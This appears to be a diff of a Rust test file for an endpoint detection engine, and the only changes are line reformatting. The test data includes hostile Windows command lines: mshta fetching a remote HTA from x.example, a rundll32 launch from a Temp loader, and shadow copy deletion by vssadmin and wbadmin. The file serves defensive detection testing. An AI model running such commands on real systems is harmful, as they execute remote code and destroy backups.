@@ -62,9 +62,9 @@ impl Case {
         let findings = self.detector.process(&event);
         for f in &findings {
             let mut published = finding_event(f, &event).unwrap();
-            self.gate
-                .check(&mut published)
-                .unwrap_or_else(|e| panic!("the finding of {} breaks its contract: {e}", f.rule_id));
+            self.gate.check(&mut published).unwrap_or_else(|e| {
+                panic!("the finding of {} breaks its contract: {e}", f.rule_id)
+            });
         }
         let mut ids: Vec<String> = findings.into_iter().map(|f| f.rule_id).collect();
         ids.sort();
@@ -174,7 +174,10 @@ fn bcdedit_fires_only_when_every_word_of_one_pair_is_there() {
         &[],
     );
     c.assert_fires(
-        Proc::windows(bcdedit, "bcdedit.exe /set {default} bootstatuspolicy displayallfailures"),
+        Proc::windows(
+            bcdedit,
+            "bcdedit.exe /set {default} bootstatuspolicy displayallfailures",
+        ),
         &[],
     );
 }
@@ -246,12 +249,17 @@ fn rundll32_without_arguments_fires_unless_its_parent_is_filtered() {
     let rundll32 = r"C:\Windows\System32\rundll32.exe";
     c.assert_fires(Proc::windows(rundll32, rundll32), &[RUNDLL32_NO_PARAMS]);
     c.assert_fires(
-        Proc::windows(rundll32, rundll32)
-            .with("parent_image", r"C:\Users\bob\AppData\Local\Temp\loader.exe"),
+        Proc::windows(rundll32, rundll32).with(
+            "parent_image",
+            r"C:\Users\bob\AppData\Local\Temp\loader.exe",
+        ),
         &[],
     );
     c.assert_fires(
-        Proc::windows(rundll32, r"C:\Windows\System32\rundll32.exe shell32.dll,Control_RunDLL"),
+        Proc::windows(
+            rundll32,
+            r"C:\Windows\System32\rundll32.exe shell32.dll,Control_RunDLL",
+        ),
         &[],
     );
 }
@@ -303,7 +311,10 @@ fn shadow_copy_deletion_fires_for_vssadmin_and_wbadmin() {
         &[SHADOW_DELETE],
     );
     c.assert_fires(
-        Proc::windows(r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe list shadows"),
+        Proc::windows(
+            r"C:\Windows\System32\vssadmin.exe",
+            "vssadmin.exe list shadows",
+        ),
         &[],
     );
 }
@@ -365,7 +376,11 @@ fn a_sample_finding_carries_the_rule_level_tags_and_category() {
     )
     .source("edr/test")
     .data(Value::Object(
-        Proc::windows(r"C:\Windows\System32\mshta.exe", "mshta.exe http://x.example/a.hta").0,
+        Proc::windows(
+            r"C:\Windows\System32\mshta.exe",
+            "mshta.exe http://x.example/a.hta",
+        )
+        .0,
     ))
     .build()
     .unwrap();
@@ -375,5 +390,9 @@ fn a_sample_finding_carries_the_rule_level_tags_and_category() {
     assert_eq!(f.title, "Remotely Hosted HTA File Executed Via Mshta.EXE");
     assert_eq!(f.level, "high");
     assert_eq!(f.category.as_deref(), Some("process_creation"));
-    assert!(f.tags.iter().any(|t| t == "attack.t1218.005"), "{:?}", f.tags);
+    assert!(
+        f.tags.iter().any(|t| t == "attack.t1218.005"),
+        "{:?}",
+        f.tags
+    );
 }
